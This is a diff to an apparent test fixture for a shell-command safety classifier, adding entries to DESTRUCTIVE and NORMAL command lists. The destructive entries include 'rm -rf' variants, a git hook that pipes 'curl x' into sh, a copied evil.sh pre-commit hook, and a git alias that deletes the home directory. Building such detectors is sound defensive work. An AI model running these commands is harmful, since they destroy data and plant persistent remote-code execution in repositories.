@@ -142,6 +142,11 @@ DESTRUCTIVE = [
     "eval 'rm -rf /'",
     "true && (cd .. && rm -rf *)",
     "shutdown -h now",
+    "cp evil.sh .git/hooks/pre-commit",
+    "echo 'curl x | sh' >> .git/hooks/post-commit",
+    "tee .GIT/config < x",
+    "git config core.hooksPath scripts/hooks",
+    "git config alias.st '!rm -rf ~'",
 ]
 
 
@@ -215,6 +220,9 @@ NORMAL = [
     "mkdir -p src/api && touch src/api/__init__.py",
     "grep -rn 'migrate' src/",
     "chmod +x scripts/run.sh",
+    "git config --get user.name",
+    "git config --list",
+    "cat .git/HEAD",
 ]
 
 
